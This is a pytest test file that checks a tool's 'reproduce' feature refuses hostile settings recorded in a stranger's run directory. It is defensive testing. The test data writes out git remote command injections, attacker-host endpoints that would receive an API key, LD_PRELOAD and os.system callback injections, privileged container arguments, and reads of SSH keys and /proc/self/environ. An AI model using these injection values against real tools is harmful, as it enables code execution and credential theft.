"""`reproduce=` of a stranger's directory: nothing in it runs, leaks or leaves the directory unless trust is asked for."""

import json
from pathlib import Path

import pytest

from contexttune.errors import ConfigError
from contexttune.experiment.past_run import past_run
from contexttune.launch import hydra_setup
from contexttune.launch.reproduce import expand
from tests.command_line import contexttune
from tests.models.fault_server import ok, serving

KEY = "sk-recognisable-0123456789"
DEMO = ("slice=demo", "slice.limit=1", "runner=gold", "harness=none", "condition=no_context")
AGENT = ("slice=demo", "runner=mini_swe_agent_swebench", "harness=none", "model.name=m")
LOCAL = ("slice=demo", "runner=mini_swe_agent", "harness=none", "model.name=m")
MODEL = ("slice=demo", "slice.limit=1", "runner=single_shot", "harness=none", "model.name=m")
WRITER = ("condition=llm_context", "model@condition.writer=openai_compatible", "condition.writer.name=m")


def record(root: Path, *overrides: str, conf: Path | None = None, name: str = "config") -> Path:
    """A run's directory as a stranger hands it over."""
    home = root / "results/g/runs/theirs"
    home.mkdir(parents=True, exist_ok=True)
    sources = [{"provider": "command-line", "path": str(conf), "schema": "file"}] if conf else []
    manifest = {
        "overrides": list(overrides),
        "config": {"task": {"name": "run"}},
        "config_name": name,
        "config_sources": sources,
    }
    sessions = [{"stages": ["inference"]}]
    (home / "run.json").write_text(json.dumps({"group_id": "g", "manifest": manifest, "sessions": sessions}))
    past_run.cache_clear()
    return home


@pytest.fixture(autouse=True)
def registered(monkeypatch, tmp_path):
    hydra_setup.register()
    for name in ("OPENAI_BASE_URL", "OPENAI_API_KEY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)


Case = tuple[tuple[str, ...], str]  # overrides of the record, and the key that is named
PROGRAMS: list[Case] = [
    ((*DEMO, "workspace.remote='--upload-pack=touch pwned'"), "workspace.remote"),
    ((*DEMO, "workspace.remote='ext::sh -c touch% pwned'"), "workspace.remote"),
    ((*DEMO, "workspace.remote='ssh://-oProxyCommand=touch pwned/{repo}'"), "workspace.remote"),
    ((*DEMO, "workspace.remote='git@evil.example:{repo}'"), "workspace.remote"),
    ((*DEMO, "workspace.remote='https://evil.example/{repo}.git'"), "workspace.remote"),
    ((*DEMO, "workspace.remote='file:///tmp/evil/{repo}'"), "workspace.remote"),
    ((*DEMO, "workspace.remote='/tmp/evil'"), "workspace.remote"),
    ((*DEMO, "workspace.remote='package://contexttune/../../evil/{name}'"), "workspace.remote"),
    ((*AGENT, "runner.container_command=/tmp/evil"), "runner.container_command"),
    ((*AGENT, "++runner.container_command=/tmp/evil"), "runner.container_command"),
    ((*AGENT, "runner={container_command: /tmp/evil}"), "runner.container_command"),
    ((*AGENT, "runner.run_args=[-v,/:/host]"), "runner.run_args"),
    ((*AGENT, "runner.run_args=[--privileged]"), "runner.run_args"),
    ((*AGENT, "runner.network=host"), "runner.network"),
    ((*AGENT, "runner.pids_limit=null"), "runner.pids_limit"),
    ((*AGENT, "runner.memory_gb=0"), "runner.memory_gb"),
    ((*LOCAL, "runner.sandbox=none"), "runner.sandbox"),
    ((*LOCAL, "runner.protocol=v1", "runner.v1_prompts=evil.yaml"), "runner.v1_prompts"),
    ((*MODEL, "model/server=vllm", "model.server.command=[touch,pwned,'{port}']"), "model.server.command"),
    ((*MODEL, "model/server=vllm"), "model.server.command"),
    ((*MODEL, "model/server=llama_cpp", "model.server.weights=evil.gguf"), "model.server.command"),
    ((*DEMO, "+harness.command=[touch,pwned]"), "harness.command"),
    ((*DEMO, "hydra/launcher=submitit_local"), "hydra/launcher"),
    ((*DEMO, "hydra.launcher.setup=[touch pwned]"), "hydra.launcher.setup"),
    ((*DEMO, "+hydra.launcher.srun_args=[--x]"), "hydra.launcher.srun_args"),
    ((*DEMO, "+hydra.launcher.python=/tmp/evil"), "hydra.launcher.python"),
    ((*DEMO, "+hydra.callbacks.evil._target_=os.system"), "hydra.callbacks.evil._target_"),
    ((*DEMO, "hydra.searchpath=[pkg://evil]"), "hydra.searchpath"),
    ((*DEMO, "+hydra.job.env_set.LD_PRELOAD=/tmp/evil.so"), "hydra.job.env_set.LD_PRELOAD"),
    ((*DEMO, "+hydra.job_logging.handlers.x.class=evil.Handler"), "hydra.job_logging.handlers.x.class"),
    ((*DEMO, "+card@hydra.callbacks=layout"), "card"),
]
CLASSES: list[Case] = [
    ((*DEMO, "runner._target_=evil.Runner"), "runner._target_"),
    ((*DEMO, "condition._target_=subprocess.Popen"), "condition._target_"),
    ((*DEMO, "+signal.evil._target_=evil.Signal"), "signal.evil._target_"),
    ((*DEMO, "slice.dataset={_target_: evil.Rows}"), "slice.dataset._target_"),
    ((*DEMO, "runner._target_=${oc.env:HOME}"), "runner._target_"),
    ((*DEMO, "runner._target_=${runner.name}"), "runner._target_"),
    ((*DEMO, "task._target_=contexttune.tasks.clean.Clean", "clean.apply=true"), "task._target_"),
    ((*DEMO, "task=clean", "clean.apply=true"), "task._target_"),
    ((*DEMO, "clean.apply=true"), "clean.apply"),
]
KEYS: list[Case] = [
    ((*MODEL, "model.base_url=https://evil.example/v1"), "model.base_url"),
    ((*MODEL, "model={base_url: 'https://evil.example/v1'}"), "model.base_url"),
    ((*MODEL, "model.base_url=http://127.0.0.1:9/v1"), "model.base_url"),
    ((*MODEL, "model.base_url=${slice.name}", "slice.name=x"), "model.base_url"),
    ((*MODEL, "model.api_key_env=AWS_SECRET_ACCESS_KEY"), "model.api_key_env"),
    ((*MODEL, *WRITER, "condition.writer.base_url=https://evil.example/v1"), "condition.writer.base_url"),
    ((*MODEL, *WRITER, "condition.writer.api_key_env=HF_TOKEN"), "condition.writer.api_key_env"),
    ((*DEMO, "slice.dataset=s3://evil/rows.jsonl"), "slice.dataset"),
]
ENVIRONMENT: list[Case] = [
    ((*MODEL, "model.name=${oc.env:HOME}"), "model.name"),
    ((*MODEL, "slice.name='x-${oc.decode:${oc.env:HOME}}'"), "slice.name"),
    ((*MODEL, "slice.name=env", "slice.filter='${oc.${slice.name}:HOME}'"), "slice.filter"),
    ((*DEMO, "condition=file_context", "condition.path=/proc/self/environ"), "condition.path"),
    ((*DEMO, "condition=file_context", "condition.path='~/.ssh/id_rsa'"), "condition.path"),
    ((*DEMO, "slice.ids_file=/proc/self/environ"), "slice.ids_file"),
]
PLACES: list[Case] = [
    ((*DEMO, "paths.root=/tmp/elsewhere"), "paths.root"),
    ((*DEMO, "paths.results=../elsewhere"), "paths.results"),
    ((*DEMO, "paths.artifacts='~/elsewhere'"), "paths.artifacts"),
    ((*DEMO, "paths.cache=${oc.env:HOME}/x"), "paths.cache"),
    ((*MODEL, "model=replay", "model.source=/etc"), "model.source"),
]
UNKNOWN: list[Case] = [
    ((*DEMO, "+runner.some_new_key=x"), "runner.some_new_key"),
    ((*DEMO, "+some_new_section.x=1"), "some_new_section.x"),
    ((*DEMO, "+slice.some_new_key=x"), "slice.some_new_key"),
    ((*DEMO, "seed=1,2"), "seed"),
]


@pytest.mark.parametrize(
    ("overrides", "key"),
    PROGRAMS + CLASSES + KEYS + ENVIRONMENT + PLACES + UNKNOWN,
    ids=lambda value: str(value)[-60:],
)
def test_a_hostile_setting_is_refused_by_one_sentence_that_names_it(tmp_path, overrides, key):
    theirs = record(tmp_path, *overrides)
    with pytest.raises(ConfigError) as refused:
        expand([f"reproduce={theirs}"])
    text = str(refused.value)
    assert text.startswith(f"{key}=")
    assert "reproduce_trusted=true" in text
    assert "\n" not in text


SOME = pytest.mark.parametrize(
    ("overrides", "key"), [PROGRAMS[0], PROGRAMS[8], CLASSES[0], KEYS[0]], ids=lambda value: str(value)[-40:]
)


@SOME
def test_a_hostile_setting_is_refused_in_a_sweep_too(tmp_path, overrides, key):
    with pytest.raises(ConfigError, match=f"^{key}="):
        expand(["-m", f"reproduce={record(tmp_path, *overrides)}", "slice.limit=1,2"])


@SOME
def test_trust_is_typed_and_never_recorded(tmp_path, overrides, key):
    theirs = record(tmp_path, *overrides, "reproduce_trusted=true")
    with pytest.raises(ConfigError, match=f"^{key}="):
        expand([f"reproduce={theirs}"])
    with pytest.raises(ConfigError, match=f"^{key}="):
        expand([f"reproduce={theirs}", "reproduce_trusted=false"])
    assert overrides[-1] in expand([f"reproduce={theirs}", "reproduce_trusted=true"])


@pytest.mark.parametrize(
    ("overrides", "typed"),
    [
        ((*DEMO, "workspace.remote=https://evil.example/x"), ("workspace.remote=file:///mine",)),
        ((*DEMO, "workspace={remote: 'https://evil.example/x'}"), ("workspace.remote=file:///mine",)),
        ((*AGENT, "runner.run_args=[--privileged]"), ("runner.run_args=[--privileged]",)),
        ((*MODEL, "model={base_url: 'https://evil.example'}"), ("model.base_url=https://mine.example",)),
        ((*MODEL, "model/server=vllm"), ("model/server=vllm",)),
        ((*MODEL, "model.api_key_env=X"), ("model.api_key_env=X",)),
        ((*DEMO, "paths.root=/tmp/x"), ("paths={root: /tmp/y}",)),
        ((*MODEL, "model.base_url=https://h/v1"), ("-m", "model.base_url=https://a/v1,https://b/v1")),
    ],
)
def test_what_the_user_types_is_the_users(tmp_path, overrides, typed):
    theirs = record(tmp_path, *overrides)
    with pytest.raises(ConfigError):
        expand([f"reproduce={theirs}"])
    flags, words = ([word for word in typed if (word[0] == "-") is flag] for flag in (True, False))
    for made in (
        expand([*flags, *words, f"reproduce={theirs}"]),
        expand([*flags, f"reproduce={theirs}", *words]),
    ):
        assert made[-len(words) :] == words  # last, so that nothing recorded replaces it


@pytest.mark.parametrize("typed", ["runner.container=podman", "+model.server.x=1", "model/server=none"])
def test_a_typed_key_trusts_no_other_key_beside_it(tmp_path, typed):
    theirs = record(tmp_path, *AGENT, "runner.run_args=[--privileged]", "model.base_url=https://evil.example")
    with pytest.raises(ConfigError, match="is recorded in"):
        expand([f"reproduce={theirs}", typed])


HARMLESS = [
    ("experiment=demo", "condition=baseline_context", "seed=3"),
    ("experiment=verified_mini_baseline", "model.name=org/model:7b", "condition=no_context", "workers=8"),
    ("runner=gold", "condition=no_context", "slice=smoke"),
    (
        *AGENT,
        "runner.step_limit=9",
        "runner.container=podman",
        "runner.cost_limit_usd=1",
        "budget.cost_usd=5",
    ),
    (*LOCAL, "runner.protocol=backticks", "model.requests_per_minute=60", "model.temperature=null"),
    (*MODEL, *WRITER, "condition.temperature=1", "condition.instructions='In {repo}: write {budget}'"),
    (*MODEL, "condition=llm_context", "+condition@condition.material.own=agents_md"),
    ("slice=custom", "slice.dataset=/data/rows.jsonl", "model.name=m", "slice.filter='django__.*'"),
    (*MODEL, "condition=file_context", "condition.path='mine/{owner}__{name}.md'"),
    (*MODEL, "condition=placebo_wrong_repo", "condition@condition.of=repo_map", "condition.other=a/b@c"),
    (*MODEL, "card@condition.cards=[layout,tests_howto]", "signal=[tree,churn]"),
    (*MODEL, "model=replay", "model.source=artifacts/preds/g", "analysis.margin=0.1"),
    (*MODEL, "model.base_url=http://evil.example/v1", "model.api_key_env=null"),
    (*MODEL, "+prices.mine={prompt: 1, completion: 2}", "~prices.o3", "paths.root=elsewhere"),
    (*MODEL, "runner.file_list_budget_chars=${condition.total_budget_chars}"),
]


@pytest.mark.parametrize("overrides", HARMLESS, ids=lambda value: str(value)[-60:])
def test_a_plain_run_needs_no_trust(tmp_path, overrides):
    theirs = record(tmp_path, *overrides)
    assert set(overrides) <= set(expand([f"reproduce={theirs}"]))


def test_the_endpoint_of_the_environment_is_the_users(tmp_path, monkeypatch):
    theirs = record(tmp_path, *MODEL, "model.base_url=http://mine.example/v1")
    with pytest.raises(ConfigError, match=r"^model\.base_url="):
        expand([f"reproduce={theirs}"])
    monkeypatch.setenv("OPENAI_BASE_URL", "http://mine.example/v1")
    assert expand([f"reproduce={theirs}"])


def note(directory: Path, target: str = "my_runner.Note") -> Path:
    (directory / "runner").mkdir(parents=True)
    (directory / "runner/note.yaml").write_text(f"_target_: {target}\nname: note\n")
    return directory


def test_a_part_of_the_users_own_directory_is_the_users(tmp_path):
    mine, theirs = note(tmp_path / "my"), note(tmp_path / "evil")
    run = record(tmp_path, *DEMO, "runner=note", conf=theirs)
    with pytest.raises(ConfigError, match=r"^runner\._target_='my_runner\.Note' is recorded"):
        expand([f"reproduce={run}"])
    assert "runner=note" in expand(["--config-dir", str(mine), f"reproduce={run}"])
    changed = record(tmp_path, *DEMO, "runner=note", "+runner.command=rm", conf=theirs)
    with pytest.raises(ConfigError, match=r"^runner\.command='rm' is recorded"):
        expand(["--config-dir", str(mine), f"reproduce={changed}"])


def test_a_part_of_the_users_own_search_path_is_the_users(tmp_path):
    mine = note(tmp_path / "my")
    run = record(tmp_path, *DEMO, "runner=note")
    typed = f"hydra.searchpath=['file://{mine}']"
    assert typed in expand([f"reproduce={run}", typed])


IN_A_FILE = [
    ("hydra:\n  callbacks:\n    evil:\n      _target_: os.system\n", "hydra.callbacks.evil._target_"),
    ("hydra:\n  job:\n    env_set: {GIT_SSH_COMMAND: touch x}\n", "hydra.job.env_set.GIT_SSH_COMMAND"),
    ("hydra:\n  run:\n    dir: /tmp/elsewhere\n", "hydra.run.dir"),
    ("hydra:\n  overrides:\n    hydra: [hydra/launcher=evil]\n", "hydra.overrides.hydra"),
    (
        "hydra:\n  job_logging:\n    handlers:\n      x: {class: evil.H}\n",
        "hydra.job_logging.handlers.x.class",
    ),
    ("hydra:\n  job:\n    name: ../../x\n", "hydra.job.name"),
    ("workspace:\n  remote: ext::sh\n", "workspace.remote"),
    ("reproduce_trusted: true\nworkspace:\n  remote: ext::sh\n", "workspace.remote"),
    ("defaults:\n  - override /model/server: vllm\n", "model.server.command"),
    ("defaults:\n  - override /hydra/launcher: submitit_local\n", "hydra.launcher"),
    ("slice:\n  name: ${oc.env:HOME}\n", "slice.name"),
    ("condition:\n  cards: {layout: {_target_: evil.X}}\n", "condition.cards.layout._target_"),
]


@pytest.mark.parametrize(("text", "key"), IN_A_FILE, ids=lambda value: str(value)[:40])
def test_a_recorded_directory_is_no_more_trusted_than_an_override(tmp_path, text, key):
    conf = tmp_path / "conf"
    (conf / "experiment").mkdir(parents=True)
    (conf / "experiment/theirs.yaml").write_text(f"# @package _global_\n{text}")
    run = record(tmp_path, *MODEL, "experiment=theirs", conf=conf)
    with pytest.raises(ConfigError) as refused:
        expand([f"reproduce={run}"])
    assert str(refused.value).startswith(key)


@pytest.mark.parametrize("typed", ["runner=gold,note", "runner=choice(gold,note)", "runner=glob(*)"])
def test_an_option_of_a_recorded_directory_that_a_sweep_chooses_is_looked_at(tmp_path, typed):
    conf = note(tmp_path / "conf", "evil.Runner")
    run = record(tmp_path, *DEMO, conf=conf)
    assert expand([f"reproduce={run}"])
    with pytest.raises(ConfigError, match=r"^runner\._target_="):
        expand(["-m", f"reproduce={run}", typed])


def test_options_and_configurations_outside_of_conf_are_not_the_users(tmp_path):
    note(tmp_path / "evil", "evil.Runner")
    up = "/".join([".."] * 20)
    outside = f"runner={up}{tmp_path}/evil/runner/note"
    with pytest.raises(ConfigError, match=r"^runner\._target_="):
        expand([f"reproduce={record(tmp_path, *DEMO, outside)}"])
    (tmp_path / "evil/config2.yaml").write_text("hydra:\n  searchpath: [pkg://evil]\n")
    for name in ("config2", f"{up}{tmp_path}/evil/config2", "x/../../config2", "--config-dir"):
        run = record(tmp_path, *DEMO, conf=tmp_path / "evil", name=name)
        with pytest.raises(ConfigError, match=r"--config-name|is not the name of a configuration"):
            expand([f"reproduce={run}"])


@pytest.mark.parametrize("flag", ["--experimental-rerun=x.pickle", "--config-dir=/tmp/evil", "-m"])
@pytest.mark.parametrize("trust", [(), ("reproduce_trusted=true",)])
def test_a_flag_is_no_override_however_trusted(tmp_path, flag, trust):
    run = record(tmp_path, *DEMO, flag)
    with pytest.raises(ConfigError, match="is not an override"):
        expand([f"reproduce={run}", *trust])


def test_reading_a_record_neither_imports_nor_reads_variables(tmp_path, monkeypatch):
    """A job that never began has no run.json: its configuration is read from what Hydra saved."""
    monkeypatch.syspath_prepend(tmp_path)
    (tmp_path / "evil_on_import.py").write_text(f"open({str(tmp_path / 'pwned')!r}, 'w')")
    monkeypatch.setenv("WHO_I_AM", "a-private-name")
    job = tmp_path / "multirun/mine/2020/0"
    (job / ".hydra").mkdir(parents=True)
    (job / ".hydra/overrides.yaml").write_text(json.dumps(list(DEMO)))
    part = {"_target_": "evil_on_import.X", "name": "${oc.env:WHO_I_AM}"}
    config = {"task": {"name": "run"}, "group_id": "${default_group_id:}", "workers": 3}
    config |= {"runner": part, "model": part, "harness": part, "slice": {"limit": "${workers}"}}
    config |= {"a": "env", "b": "${oc.${a}:WHO_I_AM}", "c": "\\\\${oc.env:WHO_I_AM}"}
    (job / ".hydra/config.yaml").write_text(json.dumps(config))
    hydra = {"job": {"config_name": "config"}, "runtime": {"config_sources": [], "output_dir": str(job)}}
    (job / ".hydra/hydra.yaml").write_text(json.dumps({"hydra": hydra}))
    found = past_run(job)
    assert found.group_id == "mine"
    assert found.config["slice"]["limit"] == 3
    assert "a-private-name" not in json.dumps(found.config)
    assert not (tmp_path / "pwned").exists()


def test_nothing_of_a_hostile_record_happens_and_it_costs_one_line(tmp_path):
    """As a user meets it: with the record's programs as canaries, and a server that would see the key."""
    canary = tmp_path / "pwned"
    (tmp_path / "evil.py").write_text(f"open({str(canary)!r}, 'w')")
    callback = "{_target_: subprocess.check_call, args: [touch, " + str(canary) + "]}"
    with serving(ok("no change")) as server:
        for overrides in (
            (*DEMO, f"workspace.remote='--upload-pack=touch {canary}'"),
            (*DEMO, "runner._target_=evil.Runner"),
            (*DEMO, f"+hydra.callbacks.evil={callback}"),
            (*MODEL, f"model.base_url={server.url}", "model.api_key_env=OPENAI_API_KEY"),
            (*MODEL, "model/server=vllm", f"model.server.command=[touch,{canary},'{{port}}']"),
            (*DEMO, "paths.root='/\x1b]52;c;cHduZWQ=\x07\u202e'"),
        ):
            run = record(tmp_path / "theirs", *overrides)
            done = contexttune(f"reproduce={run}", cwd=tmp_path, OPENAI_API_KEY=KEY)
            assert done.returncode == 2, done.stdout + done.stderr
            assert done.stderr.startswith("error: ")
            assert len(done.stderr.splitlines()) == 1
            assert not {"\x1b", "\x07", "\u202e"} & set(done.stdout + done.stderr)
            assert not canary.exists()
        assert server.requests == []
    assert {path.name for path in tmp_path.iterdir()} - {"__pycache__"} == {"evil.py", "theirs"}


def test_a_trusted_record_is_obeyed_and_its_trust_is_not_handed_down(tmp_path):
    run = record(tmp_path / "theirs", *DEMO, f"paths.root={tmp_path / 'there'}")
    done = contexttune(f"reproduce={run}", "reproduce_trusted=true", cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    (again,) = tmp_path.glob("there/results/g-reproduced*/runs/*/")
    refused = contexttune(f"reproduce={again}", cwd=tmp_path)
    assert refused.returncode == 2
    assert "error: paths.root=" in refused.stderr
